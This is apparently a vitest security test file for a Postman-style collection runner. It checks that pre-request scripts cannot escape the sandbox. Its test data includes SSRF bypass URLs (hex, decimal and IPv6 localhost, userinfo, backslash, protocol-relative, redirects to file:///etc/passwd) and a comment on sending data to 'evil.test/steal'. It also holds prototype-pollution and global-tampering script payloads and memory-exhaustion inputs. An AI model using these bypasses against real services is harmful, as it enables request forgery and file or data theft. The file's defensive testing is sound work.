// The third round of attacks on what cli/README.md says a collection's scripts cannot do, where the first two
// (sandbox-isolation-attacks, sandbox-attacks-2, host-bounds-attacks, tests/cli/sandbox-process) had not gone:
// where pm.sendRequest can send, how much the variables a script sets may hold, what one run leaves to the next
// in the page's run worker, and variables named after Object.prototype's keys. Each bin run is measured
// (measured.ts): `[sandbox-attacks-3] what: exit, peak RSS, s`. What Newman 6.2 does in each case is in its comment.
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tempDb } from "../cli/helpers";
import { after, collectionFile, scripted, stillJudged, type AttackReport } from "./attack";
import { measured, peakMb } from "./measured";
import { executeRun, prepareRun } from "#mock/tester/engine/run";
import type { SandboxFactory } from "#mock/tester/engine/postman-run";
import type { Sender } from "#mock/tester/engine/exchange";
import { ScriptSandbox } from "#mock/tester/sandbox/sandbox";
import { BOUNDS } from "#mock/tester/engine/limits";
import { pageSender } from "#app/mockman/lib/page-sender";
import { postmanCollection } from "../fixtures/postman";
import type { PostmanCollection } from "#mock/tester/postman/convert";

const TAG = "sandbox-attacks-3";

/** A server on 127.0.0.1 that answers 200 with what it got, and 302 to `?to=` on /redirect; it lists what reached it. */
async function listener(name: string): Promise<{ server: Server; port: number; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req: IncomingMessage, res) => {
    hits.push(`${req.method} ${req.url}`);
    const url = new URL(req.url ?? "/", "http://x");
    if (url.pathname === "/redirect") {
      res.writeHead(302, { location: url.searchParams.get("to") ?? "/" });
      res.end();
      return;
    }
    res.writeHead(200, { "content-type": "application/json" });
    res.end(JSON.stringify({ who: name, url: req.url }));
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return { server, port: (server.address() as AddressInfo).port, hits };
}

describe("pm.sendRequest goes only to the run's target", () => {
  let target: Awaited<ReturnType<typeof listener>>;
  let other: Awaited<ReturnType<typeof listener>>;
  beforeAll(async () => {
    [target, other] = await Promise.all([listener("target"), listener("other")]);
  });
  afterAll(async () => {
    await Promise.all([target, other].map((l) => l && new Promise((done) => l.server.close(done))));
  });

  it("another port on 127.0.0.1 by any spelling, userinfo, file: and data:, protocol-relative and backslash URLs, a request object and a redirect: all reach the target, never the other listener", async () => {
    // Newman 6.2 (`npx newman run`, the same URLs): the other listener got 11 of them (127.0.0.1, localhost, 0x7f.1,
    // 127.1, [::1], `http://target@other`, the redirect's Location, `http:\\other\x`, and each request object);
    // file: is "Invalid URI", data: fails on its port, `//other/x` is `Invalid URI "http:////..."`.
    const O = other.port;
    const T = target.port;
    const urls: unknown[] = [
      "file:///etc/passwd",
      "data:text/plain,hello",
      `http://127.0.0.1:${O}/direct`,
      `http://localhost:${O}/localhost`,
      `http://0x7f.1:${O}/hex`,
      `http://127.1:${O}/short`,
      `http://2130706433:${O}/decimal`,
      `http://[::ffff:127.0.0.1]:${O}/mapped`,
      `http://[::1]:${O}/v6`,
      `http://127.0.0.1:${T}@127.0.0.1:${O}/userinfo`,
      `http://127.0.0.1:${T}/redirect?to=http://127.0.0.1:${O}/redirected`,
      `http://127.0.0.1:${T}/redirect?to=//127.0.0.1:${O}/redirected-relative`,
      `http://127.0.0.1:${T}/redirect?to=file:///etc/passwd`,
      `//127.0.0.1:${O}/protocol-relative`,
      `http:\\\\127.0.0.1:${O}\\backslash`,
      `http://127.0.0.1:${T}//127.0.0.1:${O}/double-slash`,
      `https://127.0.0.1:${O}/https`,
      `http://example.invalid/other-host`,
      { url: { protocol: "http", host: ["127", "0", "0", "1"], port: String(O), path: ["object"] } },
      { url: `http://127.0.0.1:${O}/object-post`, method: "POST", body: { mode: "raw", raw: "secret" } },
    ];
    const items = urls.map((url, i) =>
      scripted(`Send ${i}`, {
        pre: `pm.sendRequest(${JSON.stringify(url)}, (err, res) => pm.test('answered', () => pm.expect(err ? String(err.code) : res.json().who).to.equal('target')));`,
      }),
    );
    const { dir } = tempDb();
    const file = collectionFile(dir, [...items, after]);
    const ran = await measured(TAG, "pm.sendRequest to other hosts and ports", [
      "replay",
      file,
      "--base-url",
      `http://127.0.0.1:${T}`,
      "--json",
    ]);
    const report = JSON.parse(ran.stdout) as AttackReport;
    expect(other.hits).toEqual([]);
    // Each script's request reached the target, and its answer came from there.
    for (const [i, result] of report.results.slice(0, urls.length).entries()) {
      expect(result.sent, `Send ${i}`).toHaveLength(1);
      expect(result.assertions, `Send ${i}`).toEqual([{ name: "answered", pass: true }]);
    }
    expect(target.hits).toEqual(expect.arrayContaining(["GET /etc/passwd", "GET /direct", "GET /redirected", "POST /object-post"]));
    // The target's own 404 answers /api/posts (it is no mock): only that it was judged matters here.
    expect(report.results.at(-1)).toMatchObject({ status: 200 });
  });
});

describe("the page's run sends only to its target: the page's origin, or its environment's server (and where that redirects)", () => {
  it("a path the browser reads as another host (`//host`, `/\\host`, a tab between the slashes) stays on the page's origin", async () => {
    // The run worker hands each request to pageSender (run-worker.ts, run-client.ts), which fetched a path as it came:
    // pm.sendRequest('http://t//evil.test/steal') was window.fetch('//evil.test/steal'), a request to evil.test.
    const PAGE = "http://page.test";
    const fetched: string[] = [];
    const fetcher = (async (input: RequestInfo | URL) => {
      fetched.push(new URL(String(input), `${PAGE}/mockman`).href);
      return new Response("{}", { status: 200, headers: { "content-type": "application/json" } });
    }) as typeof fetch;
    const send = (url: string) => `pm.sendRequest(${JSON.stringify(url)}, () => {});`;
    const collection = postmanCollection("page", [
      scripted("Scripts", {
        pre: [send("http://t//evil.test/a"), send("http://t/\\\\evil.test/b"), send("http://t/%09/evil.test/c"), send("/\t/evil.test/d")],
      }),
      { name: "Own", request: { method: "GET", url: "//evil.test/e" } },
      { name: "Variable", request: { method: "GET", url: "{{baseUrl}}//evil.test/f" } },
    ]) as PostmanCollection;
    const prepared = prepareRun({ kind: "postman", collection }, { environment: {}, globals: {}, data: [], folders: [], asker: "page" });
    expect(prepared.base).toBeUndefined();
    const sender: Sender = {
      where: "the page's mock",
      close: async () => {},
      send: (request) => pageSender({ base: prepared.base, fetcher }).send(request),
    };
    await executeRun(prepared, sender, { file: "page.json", bail: false, keep: true });
    expect(fetched.length).toBeGreaterThanOrEqual(6);
    for (const url of fetched) expect(new URL(url).origin, url).toBe(PAGE);
  });
});

describe("the page's run follows a redirect of its environment's server, as Postman does", () => {
  it("a redirect to another host is followed there, which replay keeps on its target; the script reads that host's answer", async () => {
    const hits: string[] = [];
    const listen = async (host: string, answer: (path: string) => { status: number; headers: Record<string, string>; body: string }) => {
      const server = createServer((request, response) => {
        hits.push(`${host} ${request.method} ${request.url}`);
        const { status, headers, body } = answer(request.url ?? "/");
        response.writeHead(status, headers).end(body);
      });
      await new Promise<void>((resolve) => server.listen(0, host, resolve));
      return { server, url: `http://${host}:${(server.address() as AddressInfo).port}` };
    };
    const other = await listen("127.0.0.2", () => ({
      status: 200,
      headers: { "content-type": "application/json" },
      body: '{"who":"other"}',
    }));
    const env = await listen("127.0.0.1", (path) => ({ status: 302, headers: { location: `${other.url}${path}` }, body: "" }));
    try {
      const collection = postmanCollection("page", [
        scripted(
          "Moved",
          {
            pre: "pm.sendRequest(pm.environment.get('baseUrl') + '/by-script', (err, res) => pm.test('script ' + res.json().who, () => {}));",
            test: "pm.test('request ' + pm.response.json().who, () => {});",
          },
          { url: "{{baseUrl}}/by-request" },
        ),
      ]) as PostmanCollection;
      const inputs = { environment: { baseUrl: env.url }, globals: {}, data: [], folders: [], asker: "page" as const };
      const prepared = prepareRun({ kind: "postman", collection }, inputs);
      expect(prepared.base).toBe(env.url);
      const sender: Sender = {
        where: env.url,
        close: async () => {},
        send: (request) => pageSender({ base: prepared.base, fetcher: fetch }).send(request),
      };
      const { report } = await executeRun(prepared, sender, { file: "page.json", bail: false, keep: true });
      expect(report.results.map((result) => result.assertions?.map((a) => a.name))).toEqual([["script other", "request other"]]);
      expect(hits).toEqual([
        "127.0.0.1 GET /by-script",
        "127.0.0.2 GET /by-script",
        "127.0.0.1 GET /by-request",
        "127.0.0.2 GET /by-request",
      ]);
    } finally {
      await Promise.all([env, other].map(({ server }) => new Promise((resolve) => server.close(resolve))));
    }
  });
});

describe("the variables a script sets are bounded: the host holds them all run long and exports them", () => {
  it("scripts that each add 5,000,000 characters stop at the bound: those past it fail and their changes are dropped, the export stays under it", async () => {
    // Each script's cap (64 MB) bounds what it adds, not what the run holds: 40 such requests left a 200 MB
    // --export-environment and a 925 MB peak RSS (104 s, each script slower than the last), and nothing failed.
    // Newman has no bound: the same run holds and writes it all.
    const n = 16;
    const chunk = 5_000_000;
    const items = Array.from({ length: n }, (_, i) => scripted(`Grow ${i}`, { pre: `pm.environment.set('k${i}', 'x'.repeat(${chunk}));` }));
    const { dir, db } = tempDb();
    const file = collectionFile(dir, [...items, after]);
    const env = join(dir, "env.json");
    const ran = await measured(TAG, `${n} scripts that set ${chunk.toLocaleString("en-US")} characters each`, [
      "replay",
      file,
      "--db",
      db,
      "--json",
      "--export-environment",
      env,
    ]);
    const report = JSON.parse(ran.stdout) as AttackReport;
    const kept = Math.floor(BOUNDS.variableChars / (chunk + 3));
    const results = report.results;
    for (const result of results.slice(0, kept)) expect(result.pass, result.name).toBe(true);
    for (const result of results.slice(kept, n)) {
      expect(result.pass, result.name).toBe(false);
      expect(result.error).toMatch(
        /the variables would hold [\d,]+ characters, more than the 67,108,864 a run's variables may hold \(the bound\); the script's variable changes were dropped$/,
      );
    }
    expect(results.at(-1)).toMatchObject(stillJudged);
    const exported = JSON.parse(readFileSync(env, "utf8")) as { values: Array<{ key: string; value: string }> };
    expect(exported.values.filter((v) => v.key.startsWith("k")).map((v) => v.key)).toEqual(Array.from({ length: kept }, (_, i) => `k${i}`));
    expect(readFileSync(env).length).toBeLessThan(BOUNDS.variableChars + 1_000_000);
    expect(peakMb(ran)).toBeLessThan(800);
    // A hang detector, as long as its process's own (measured.ts): 8.3 s alone, over 60 s beside a loaded machine's other work.
  }, 120_000);
});

describe("the page's run worker keeps one isolate for run after run: nothing of one run reaches the next", () => {
  it("globals, prototypes, timers and memory a run's scripts leave are gone for the next run", async () => {
    // As run-worker.ts's keptSandbox: one ScriptSandbox, every run through it.
    const sandbox = await ScriptSandbox.create();
    const kept: SandboxFactory = async () => ({ run: (input, where, host) => sandbox.run(input, where, host) });
    const sender: Sender = {
      where: "test",
      close: async () => {},
      send: async () => ({ status: 200, statusText: "OK", headers: {}, body: null, ms: 1 }),
    };
    const runOf = async (items: unknown[]) => {
      const collection = postmanCollection("runs", items) as PostmanCollection;
      const prepared = prepareRun({ kind: "postman", collection }, { environment: {}, globals: {}, data: [], folders: [], asker: "page" });
      return (await executeRun(prepared, sender, { file: "runs.json", bail: false, keep: true, sandbox: kept })).report;
    };
    const leave = [
      // No globalThis in a Postman script's scope: lodash's `_` is a global object every script shares.
      "_.left = 'x'.repeat(8000000); Object.prototype.polluted = 'yes'; Array.prototype.push = () => 0;",
      "JSON.parse = () => 'forged'; pm.expect = () => ({ to: { equal() {} } });",
      "setTimeout(() => { _.late = 1; }, 60000); Promise.resolve().then(() => { _.late = 2; });",
    ];
    const check = [
      "pm.test('clean', () => {",
      "  pm.expect([typeof _.left, ({}).polluted, [].push(1), JSON.parse('1'), typeof _.late]).to.eql(['undefined', undefined, 1, 1, 'undefined']);",
      "  pm.expect(1).to.equal(2);",
      "});",
    ];
    const rss: number[] = [];
    for (let i = 0; i < 4; i++) {
      const left = await runOf([scripted("Leave", { pre: leave, test: leave })]);
      expect(left.results[0]).toMatchObject({ status: 200 });
      const judged = await runOf([scripted("Check", { pre: check })]);
      // The check fails by its own second expectation: pm.expect is Postman's again, and nothing else was left.
      expect(judged.results[0].assertions).toEqual([
        expect.objectContaining({ name: "clean", pass: false, error: expect.stringMatching(/expected 1 to equal 2/) }),
      ]);
      rss.push(Math.round(process.memoryUsage().rss / 1024 / 1024));
    }
    console.log(`[${TAG}] 8 runs in one isolate, RSS after each pair (MB): ${rss.join(", ")}`);
    // Each run's 8 MB strings is gone with its request: the memory does not grow run by run.
    expect(rss.at(-1)! - rss[1]).toBeLessThan(60);
  }, 120_000);
});

describe("variables named after Object.prototype's keys", () => {
  it("pm.environment.set('__proto__'), pm.variables.set('constructor'), pm.globals.set('hasOwnProperty'), pm.collectionVariables.set('toString') fail their request; the run goes on and the exports stay whole", async () => {
    // Newman 6.2 fails each of the four's pre-request script with "TypeError: a.update is not a function" and goes
    // on; its exports leave the name out. mockman does the same (QuickJS's words: "TypeError: not a function").
    const { dir, db } = tempDb();
    const file = collectionFile(dir, [
      scripted("Proto", { pre: "pm.environment.set('__proto__', 'x');" }),
      scripted("Constructor", { pre: "pm.variables.set('constructor', 'c');" }),
      scripted("Own", { pre: "pm.globals.set('hasOwnProperty', 'h');" }),
      scripted("String", { pre: "pm.collectionVariables.set('toString', 't');" }),
      scripted("Fine", {
        pre: "pm.environment.set('fine', 't'); pm.globals.set('also', 'v');",
        test: "pm.test('read', () => pm.expect([pm.environment.get('fine'), pm.globals.get('also'), ({}).toString()]).to.eql(['t', 'v', '[object Object]']));",
      }),
      // Newman 6.2 fills {{__proto__}} and {{constructor}} as "[object Object]", {{toString}} as "[object Undefined]",
      // and {{hasOwnProperty}} ends its run: "error: Cannot convert undefined or null to object", no later request,
      // no summary and no export. mockman sends each as written, with a warning, as any name nothing defines.
      scripted("Named", {}, { url: "/api/posts?limit=1&p={{__proto__}}&c={{constructor}}&h={{hasOwnProperty}}&t={{toString}}" }),
      after,
    ]);
    const [env, globals] = [join(dir, "env.json"), join(dir, "globals.json")];
    const ran = await measured(TAG, "variables named __proto__, constructor, hasOwnProperty", [
      "replay",
      file,
      "--db",
      db,
      "--json",
      "--export-environment",
      env,
      "--export-globals",
      globals,
    ]);
    const results = (JSON.parse(ran.stdout) as AttackReport).results;
    for (const result of results.slice(0, 4)) expect(result).toMatchObject({ pass: false, error: expect.stringMatching(/TypeError/) });
    expect(results[4]).toMatchObject({ pass: true, assertions: [{ name: "read", pass: true }] });
    expect(results[5]).toMatchObject({
      status: 200,
      path: "/api/posts?limit=1&p={{__proto__}}&c={{constructor}}&h={{hasOwnProperty}}&t={{toString}}",
    });
    expect((results[5] as { warnings?: string[] }).warnings).toEqual(
      ["__proto__", "constructor", "hasOwnProperty", "toString"].map((name) => `{{${name}}} has no value; sent as written`),
    );
    expect(results[6]).toMatchObject(stillJudged);
    const keys = (path: string) => (JSON.parse(readFileSync(path, "utf8")) as { values: Array<{ key: string }> }).values.map((v) => v.key);
    expect(keys(env)).toEqual(["fine"]);
    expect(keys(globals)).toEqual(["also"]);
  });
});
